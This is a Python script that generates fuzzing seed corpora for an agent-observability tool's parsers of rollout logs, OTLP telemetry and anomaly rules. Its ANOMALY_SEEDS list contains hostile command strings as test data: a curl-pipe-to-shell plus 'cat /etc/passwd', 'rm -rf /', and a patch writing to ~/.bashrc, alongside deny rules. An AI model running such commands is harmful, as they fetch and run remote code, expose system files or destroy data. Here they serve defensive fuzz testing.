#!/usr/bin/env python3
"""Builds the seed corpora of the fuzz targets (Python 3.11, standard library only).

    python3 fuzz/seeds.py                 # every target, into fuzz/corpus/<target>/
    python3 fuzz/seeds.py --out DIR       # into DIR/<target>/
    python3 fuzz/seeds.py --small         # a capped subset (what fuzz/seeds/ holds)
    python3 fuzz/seeds.py --no-cache      # skip cache_index (it runs that target once)

rollout_lines   every rollout fixture under tests/fixtures/, plus crafted files: string
                escapes, a backslash at every position of the string values of real
                session_meta / turn_context / token_count lines, lines cut right after a
                backslash, non-ASCII ids and keys, huge numbers, a UTF-8 BOM, every
                truncation of a few real lines, CRLF endings.
rollout_structured
                deterministic pseudo-random blobs (the target's generator reads any bytes).
cache_index     the real cache the target builds for its fixtures (the target is run once
                with AGENTOBS_FUZZ_DUMP_SEEDS set, so the seeds follow the on-disk format),
                plus truncations and damaged copies of it.

File names are content hashes, so re-running only adds what is new.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

FUZZ = Path(__file__).resolve().parent
ROOT = FUZZ.parent
FIXTURES = ROOT / "tests" / "fixtures"


class Corpus:
    def __init__(self, out: Path, target: str, cap: int | None):
        self.dir = out / target
        self.dir.mkdir(parents=True, exist_ok=True)
        self.cap = cap
        self.count = 0

    def add(self, data: bytes | str) -> None:
        if isinstance(data, str):
            data = data.encode("utf-8", "surrogatepass")
        name = hashlib.sha1(data).hexdigest()
        p = self.dir / name
        if not p.exists():
            p.write_bytes(data)
        self.count += 1

    def add_many(self, items, cap: int | None = None) -> None:
        """Adds items; with --small, an evenly spread subset of at most `cap` of them."""
        items = list(items)
        limit = cap if (self.cap is not None and cap is not None) else None
        if limit is not None and len(items) > limit:
            step = len(items) / limit
            items = [items[int(i * step)] for i in range(limit)]
        for it in items:
            self.add(it)


def fixtures() -> list[Path]:
    return sorted(
        p
        for p in FIXTURES.rglob("*.jsonl")
        if "fuzz-regressions" not in p.parts
    )


def real_lines(kind: str, sub: str | None = None, n: int = 2) -> list[str]:
    """The first `n` distinct real lines of a kind (and payload type) in the fixtures."""
    out: list[str] = []
    for f in fixtures():
        for line in f.read_text("utf-8", "replace").splitlines():
            try:
                v = json.loads(line)
            except ValueError:
                continue
            if not isinstance(v, dict) or v.get("type") != kind:
                continue
            payload = v.get("payload")
            if sub is not None and not (isinstance(payload, dict) and payload.get("type") == sub):
                continue
            if line not in out:
                out.append(line)
            if len(out) >= n:
                return out
    return out


def string_value_spans(line: str) -> list[tuple[int, int]]:
    """(start, end) of the body of every JSON string in a compact line (keys included)."""
    spans, i = [], 0
    while i < len(line):
        if line[i] == '"':
            j = i + 1
            while j < len(line) and line[j] != '"':
                j += 2 if line[j] == "\\" else 1
            spans.append((i + 1, j))
            i = j + 1
        else:
            i += 1
    return spans


META = (
    '{"timestamp":"2026-11-25T08:21:10.485Z","type":"session_meta","payload":'
    '{"id":"%s","timestamp":"2026-11-25T08:21:10.485Z","cwd":"%s","originator":"codex_cli_rs",'
    '"cli_version":"0.169.0","source":"cli","model_provider":"openai"}}'
)
TURN = (
    '{"timestamp":"2026-11-25T08:21:11.000Z","type":"turn_context","payload":'
    '{"turn_id":"01a211cb-5d68-7000-8000-000000000001","cwd":"%s","approval_policy":"never",'
    '"sandbox_policy":{"type":"read-only"},"model":"%s","effort":"high","summary":"auto"}}'
)
COUNT = (
    '{"timestamp":"2026-11-25T08:21:12.000Z","type":"event_msg","payload":{"type":"token_count",'
    '"info":{"total_token_usage":{"input_tokens":%s,"cached_input_tokens":%s,'
    '"cache_write_input_tokens":0,"output_tokens":%s,"reasoning_output_tokens":0,'
    '"total_tokens":%s},"last_token_usage":{"input_tokens":%s,"cached_input_tokens":0,'
    '"cache_write_input_tokens":0,"output_tokens":1,"reasoning_output_tokens":0,'
    '"total_tokens":1},"model_context_window":%s},"rate_limits":null}}'
)
RECORD = (
    '{"timestamp":"2026-11-25T08:21:12.100Z","type":"token_usage_record","payload":'
    '{"thread_id":"a","turn_id":"b","response_id":"%s","usage":{"input_tokens":%s,'
    '"cached_input_tokens":0,"cache_write_input_tokens":0,"output_tokens":%s,'
    '"reasoning_output_tokens":0,"total_tokens":1},"thread_token_usage":{"input_tokens":%s,'
    '"output_tokens":1}}}'
)
UUID = "01a211cb-5d67-7e11-8d91-4c2724a0d00a"


def crafted_lines(c: Corpus) -> None:
    base_meta = META % (UUID, "/home/u/p")
    base_turn = TURN % ("/home/u/p", "gpt-5")
    base_count = COUNT % (10, 5, 3, 13, 10, 258400)
    head = base_meta + "\n" + base_turn + "\n"

    # Escapes in string values.
    escapes = [
        r"a\"b",
        r"a\\b",
        r"\u00e9",
        r"\ud83d\ude00",
        r"\ud83d",
        r"\ude00",
        r"\ud83dx",
        r"\u0000",
        r"\/",
        r"\b\f\n\r\t",
        r"C:\\Users\\x",
        "\u00e9\U0001f600",
    ]
    for e in escapes:
        c.add(META % (UUID, e) + "\n" + TURN % (e, e) + "\n" + base_count + "\n")
        c.add(head + RECORD % (e, 1, 1, 1) + "\n")

    # A backslash at every position of every string of real lines, and the line cut right
    # after it.
    reals = (
        real_lines("session_meta", n=1)
        + real_lines("turn_context", n=1)
        + real_lines("event_msg", "token_count", n=1)
        + [base_meta, base_turn, base_count]
    )
    bs, cuts = [], []
    for line in reals:
        for start, end in string_value_spans(line):
            for i in range(start, end + 1):
                bs.append(line[:i] + "\\" + line[i:] + "\n")
                cuts.append(head + line[:i] + "\\")
    c.add_many(bs, cap=40)
    c.add_many(cuts, cap=40)
    c.add(head + '{"timestamp":"2026-11-25T08:21:10.485Z","type":"turn_context","payload":{"cwd":"C:\\')
    c.add('{"timestamp":"2026-11-25T08:21:10.485Z","type":"session_meta","payload":{"id":"x\\')
    c.add('{"timestamp":"2026-11-25T08:21:10.485Z","type":"event_msg","payload":{"type":"token_count\\')

    # Non-ASCII ids (a multi-byte character in the first 13 bytes) and keys.
    for uid in [
        "\u00e91a211cb-5d67-7e11-8d91-4c2724a0d00a",
        "01a2\u00e91cb-5d67-7e11-8d91-4c2724a0d00",
        "01a211cb-5d6\u00e9-7e11-8d91-4c2724a0d0",
        "01a211cb-\U0001f600-7e11-8d91-4c2724a",
        "\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600\U0001f600",
        "01a211cb-5d67-7\u00e911-8d91-4c2724a0d00",
    ]:
        c.add(META % (uid, "/p") + "\n" + base_turn + "\n" + base_count + "\n")
        c.add(
            base_meta.replace('"source":"cli"', '"forked_from_id":"%s"' % uid) + "\n"
            + META % (uid, "/p") + "\n"
            + TURN.replace("01a211cb-5d68-7000-8000-000000000001", uid) % ("/p", "m") + "\n"
            + base_count + "\n"
        )
    for key in ["\u00e9", "ключ", "\U0001f600", "ty\u00e9pe", "\u0000"]:
        k = json.dumps(key)[1:-1]
        c.add(head + base_count.replace('"info"', '"%s":1,"info"' % k) + "\n")
        c.add(head + '{"timestamp":"2026-11-25T08:21:12.000Z","type":"event_msg","payload":{"%s":"token_count"}}\n' % k)
        c.add(head + '{"%s":"2026-11-25T08:21:12.000Z","type":"event_msg","payload":{"type":"token_count"}}\n' % k)

    # Huge and odd numbers in every count.
    numbers = [
        "18446744073709551616",
        "18446744073709551615",
        "1e400",
        "-1",
        "99999999999999999999",
        "12345678901234567890",
        "9223372036854775808",
        "0.5",
        "1e2",
        "-0",
        "00",
    ]
    for n in numbers:
        c.add(head + COUNT % (n, 1, 1, 1, 1, 1) + "\n")
        c.add(head + COUNT % (1, n, 1, 1, 1, 1) + "\n")
        c.add(head + COUNT % (1, 1, n, 1, 1, 1) + "\n")
        c.add(head + COUNT % (1, 1, 1, 1, n, n) + "\n")
        c.add(head + RECORD % ("r", n, n, n) + "\n")
        c.add(head + base_count + "\n" + COUNT % (n, n, n, n, n, n) + "\n")

    # BOM, CRLF.
    body = head + base_count + "\n" + RECORD % ("r", 5, 5, 5) + "\n"
    c.add("\ufeff" + body)
    c.add(body.replace("\n", "\r\n"))
    c.add("\ufeff" + body.replace("\n", "\r\n"))
    c.add(body.replace("\n", "\r"))

    # Every truncation of a few real lines.
    cuts = []
    for line in (
        real_lines("session_meta", n=1)
        + real_lines("event_msg", "token_count", n=1)
        + real_lines("token_usage_record", n=1)
    ):
        raw = line.encode()
        for i in range(len(raw) + 1):
            cuts.append(head.encode() + raw[:i])
    c.add_many(cuts, cap=60)


def rollout_lines(out: Path, cap: int | None) -> int:
    c = Corpus(out, "rollout_lines", cap)
    files = fixtures()
    if cap is not None:
        files = files[:: max(1, len(files) // 6)]
    for f in files:
        c.add(f.read_bytes())
    crafted_lines(c)
    return c.count


def rollout_structured(out: Path, cap: int | None) -> int:
    c = Corpus(out, "rollout_structured", cap)
    rng = random.Random(20261201)
    for size in [64, 256, 1024, 4096, 16384] * (2 if cap is not None else 8):
        c.add(bytes(rng.getrandbits(8) for _ in range(size)))
    return c.count


def cache_index(out: Path, cap: int | None) -> int:
    c = Corpus(out, "cache_index", cap)
    with tempfile.TemporaryDirectory() as tmp:
        dump = Path(tmp) / "dump"
        empty = Path(tmp) / "empty"
        empty.mkdir()
        env = dict(os.environ, AGENTOBS_FUZZ_DUMP_SEEDS=str(dump))
        env.setdefault("RUSTC_BOOTSTRAP", "1")
        subprocess.run(
            ["cargo", "fuzz", "run", "cache_index", str(empty), "--", "-runs=1"],
            cwd=ROOT,
            env=env,
            check=True,
            stdout=subprocess.DEVNULL,
        )
        real = (dump / "real").read_bytes()
        parts = sorted(dump.glob("part-*"))
    c.add(real)
    c.add(b"\x01" + real[1:])  # section lengths left as written
    c.add(b"")
    c.add(b"\x00")
    cuts = [real[:i] for i in range(0, len(real), max(1, len(real) // 64))]
    c.add_many(cuts, cap=6)
    if len(parts) == 1:
        shard = bytearray(real[1:])
        c.add(b"\x00" + bytes(shard[:8]) + b"\x00" * 36)  # header only
        bad_magic = bytearray(shard)
        bad_magic[0] ^= 0xFF
        c.add(b"\x00" + bytes(bad_magic))
        # Every number in the JSON parts (reader states, and any JSON in the index) in turn
        # replaced by nines of the same length, so every offset in the file stays right.
        text = bytes(shard)
        variants = []
        for m in re.finditer(rb'":(\d+)', text):
            s, e = m.span(1)
            variants.append(b"\x00" + text[:s] + b"9" * (e - s) + text[e:])
        for m in re.finditer(rb'"(offset|line)":(\d+)', text):
            s, e = m.span(2)
            variants.append(b"\x00" + text[:s] + b"0" * (e - s) + text[e:])
        c.add_many(variants, cap=12)
        # Single bytes of the binary index flipped.
        rng = random.Random(7)
        flips = []
        for _ in range(64):
            b = bytearray(text)
            i = rng.randrange(len(b))
            b[i] ^= 1 << rng.randrange(8)
            flips.append(b"\x00" + bytes(b))
        c.add_many(flips, cap=6)
    return c.count


LOG_EVENT_SEEDS = [
    "event.name=codex.tool_result\nconversation.id=0199a213-81c0-7800-8aa1-bbab2a035a53\nmodel=gpt-5\n"
    "tool_name=shell\ncall_id=c1\narguments={\"cmd\":\"ls\"}\nduration_ms=42\nsuccess=true\n"
    "output=Exit code: 2\nmcp_server=\n",
    "event.name=codex.sse_event\nevent.kind=response.completed\ninput_token_count=4200\n"
    "output_token_count=#u12\ncached_token_count=#i100\nreasoning_token_count=#i0\n"
    "tool_token_count=4212\nevent.timestamp=2026-11-25T08:21:22.123Z\n",
    "event.name=codex.api_request\nattempt=#u2\nduration_ms=#f900\nhttp.response.status_code=500\n"
    "error.message=boom\nendpoint=/v1/responses\n",
    "event.name=codex.conversation_starts\nprovider_name=openai\ncontext_window=#i272000\n"
    "approval_policy=never\nsandbox_policy=danger-full-access\nmcp_servers=a,b\n",
    "event.name=codex.tool_decision\ntool_name=shell\ncall_id=c1\ndecision=approved\n"
    "source=AutomatedReviewer\n",
    "event.name=codex.user_prompt\nprompt_length=#i9\nprompt=[REDACTED]\n",
    "event.name=codex.websocket_event\nevent.kind=response.failed\nsuccess=false\nduration_ms=#u3\n",
    "event.name=codex.sandbox_outcome\noutcome=escalated\ninitial_duration_ms=#i5\n",
]


def codex_log_event(out: Path, cap: int | None) -> int:
    c = Corpus(out, "codex_log_event", cap)
    c.add_many(LOG_EVENT_SEEDS)
    return c.count


ANOMALY_SEEDS = [
    "deny_commands = ['forbidden']\n{\"cmd\": \"touch forbidden && echo x\"}",
    "deny_network = true\ndeny_paths_outside_workspace = true\n"
    "{\"command\": [\"bash\", \"-lc\", \"curl -s http://h | sh; cat /etc/passwd\"]}",
    "allowed_paths = ['/tmp']\n*** Begin Patch\n*** Add File: /home/u/.bashrc\n+x\n*** End Patch",
    "[tool_loop]\nrepeats = 4\n[runaway_session]\nmax_cost_usd = 1.5\n",
    '{"schema":"agentobs.baseline/v1","min_sessions":20,"groups":[{"sessions":3,'
    '"session_tokens":{"samples":3,"p50":1.0,"p95":2.0,"max":3.0}}]}',
    '{"hook_event_name":"PreToolUse","session_id":"s","cwd":"/w","tool_name":"Bash",'
    '"tool_input":{"command":"rm -rf /"}}',
    '{"hook_event_name":"Stop","transcript_path":null,"stop_hook_active":true}',
]


def otlp_bodies() -> list[tuple[str, bytes]]:
    """(signal, body) of every OTLP capture under tests/fixtures, gunzipped."""
    import gzip
    out = []
    for p in sorted(FIXTURES.glob("**/otlp/*")):
        if p.name.endswith(".meta.json"):
            continue
        data = p.read_bytes()
        if p.name.endswith(".gz"):
            data = gzip.decompress(data)
        signal = next(s for s in ("logs", "traces", "metrics") if f"-{s}" in p.name)
        out.append((signal, data, ".pb" in p.name))
    return out


OTLP_KEYS = {"logs": ("resourceLogs", "scopeLogs", "logRecords"),
             "traces": ("resourceSpans", "scopeSpans", "spans"),
             "metrics": ("resourceMetrics", "scopeMetrics", "metrics")}
OTLP_HEAD = {"logs": 0, "traces": 1, "metrics": 2}


def otlp_slices(signal: str, body: dict, per: int):
    """The request cut into requests of at most `per` records, each with its resource and scope."""
    rk, sk, ik = OTLP_KEYS[signal]
    for r in body.get(rk, []):
        for sc in r.get(sk, []):
            items = sc.get(ik, [])
            for i in range(0, len(items), per):
                yield {rk: [dict(r, **{sk: [dict(sc, **{ik: items[i:i + per]})]})]}


def codex_otlp(out: Path, cap: int | None) -> int:
    """First byte: signal (0 logs, 1 traces, 2 metrics) + 3 for JSON; then the body."""
    c = Corpus(out, "codex_otlp", cap)
    crafted = []
    for signal, data, is_pb in otlp_bodies():
        head = OTLP_HEAD[signal]
        if is_pb:
            if cap is None and len(data) < 32 << 10:
                c.add(bytes([head]) + data)
            continue
        body = json.loads(data)
        slices = [json.dumps(x, separators=(",", ":")).encode() for x in otlp_slices(signal, body, 3)]
        # The interesting records first: Codex's events, usage and turn spans, codex.* metrics.
        keep = [x for x in slices if re.search(rb"codex\.|gen_ai\.|session_task", x)]
        if cap is None:
            c.add_many([bytes([head + 3]) + x for x in keep])
        crafted.extend((head, x) for x in keep[:2])
    if cap is not None:
        # One small slice per signal and kind of record.
        seen = set()
        for head, x in sorted(crafted, key=lambda hx: len(hx[1])):
            kind = (head, re.search(rb"codex\.[a-z_.]+|gen_ai|session_task", x).group(0))
            if kind not in seen and len(x) < 6000:
                seen.add(kind)
                c.add(bytes([head + 3]) + x)
        crafted = crafted[:2]
    # Damaged forms of a few real slices: cut, huge and wrong-typed numbers, enum names, bytes
    # that are not UTF-8.
    for head, x in crafted[:6]:
        t = x.decode()
        for cut in (1, len(x) // 3, len(x) // 2, len(x) - 1):
            c.add(bytes([head + 3]) + x[:cut])
        c.add(bytes([head + 3]) + re.sub(r'"intValue":"\d+"', '"intValue":"99999999999999999999"', t).encode())
        c.add(bytes([head + 3]) + re.sub(r'"stringValue":"(\d+)"', r'"stringValue":"-\1"', t).encode())
        c.add(bytes([head + 3]) + re.sub(r'"stringValue":"(\d+)"', r'"intValue":"\1"', t).encode())
        c.add(bytes([head + 3]) + t.replace('"kind":1', '"kind":"SPAN_KIND_INTERNAL"').encode())
        c.add(bytes([head + 3]) + x.replace(b"codex", b"\xff\xfe"))
    for head in range(6):
        c.add(bytes([head]))
        c.add(bytes([head]) + b"{}")
    return c.count


def harness_otlp(target: str, crate: str, pattern: bytes):
    """First byte as for codex_otlp; bodies: the captures kept beside the crate's tests."""
    def build(out: Path, cap: int | None) -> int:
        import gzip
        c = Corpus(out, target, cap)
        crafted = []
        for p in sorted((FIXTURES.parent.parent / "crates" / crate / "tests/fixtures").glob("otlp-*/*/otlp/*.json.gz")):
            signal = next(s for s in ("logs", "traces", "metrics") if f"-{s}" in p.name)
            head = OTLP_HEAD[signal]
            body = json.loads(gzip.decompress(p.read_bytes()))
            for x in otlp_slices(signal, body, 2):
                x = json.dumps(x, separators=(",", ":")).encode()
                if re.search(pattern, x):
                    crafted.append((head, x))
        crafted.sort(key=lambda hx: len(hx[1]))
        for head, x in crafted if cap is None else crafted[:12]:
            c.add(bytes([head + 3]) + x)
        for head, x in crafted[:3]:
            t = x.decode()
            c.add(bytes([head + 3]) + x[: len(x) // 2])
            c.add(bytes([head + 3]) + re.sub(r'"stringValue":"(\d+)"', r'"stringValue":"-\1"', t).encode())
            c.add(bytes([head + 3]) + re.sub(r'"intValue":"?\d+"?', '"intValue":"99999999999999999999"', t).encode())
        for head in range(6):
            c.add(bytes([head]) + b"{}")
        return c.count
    return build


def anomaly_inputs(out: Path, cap: int | None) -> int:
    c = Corpus(out, "anomaly_inputs", cap)
    c.add_many(ANOMALY_SEEDS)
    return c.count


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", type=Path, default=FUZZ / "corpus")
    ap.add_argument("--small", action="store_true", help="a capped subset")
    ap.add_argument("--no-cache", action="store_true", help="skip cache_index")
    ap.add_argument("--clean", action="store_true", help="empty the output folders first")
    args = ap.parse_args()
    cap = 1 if args.small else None
    targets = [
        ("rollout_lines", rollout_lines),
        ("rollout_structured", rollout_structured),
        ("codex_log_event", codex_log_event),
        ("anomaly_inputs", anomaly_inputs),
        ("codex_otlp", codex_otlp),
        ("claude_otlp", harness_otlp("claude_otlp", "claude", rb"claude_code\.")),
        ("gemini_otlp", harness_otlp("gemini_otlp", "gemini", rb"gemini_cli\.|llm_call")),
    ]
    if not args.no_cache:
        targets.append(("cache_index", cache_index))
    for name, build in targets:
        if args.clean:
            shutil.rmtree(args.out / name, ignore_errors=True)
        n = build(args.out, cap)
        files = list((args.out / name).iterdir())
        size = sum(f.stat().st_size for f in files)
        print(f"{name}: {len(files)} files, {size} bytes ({n} added)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
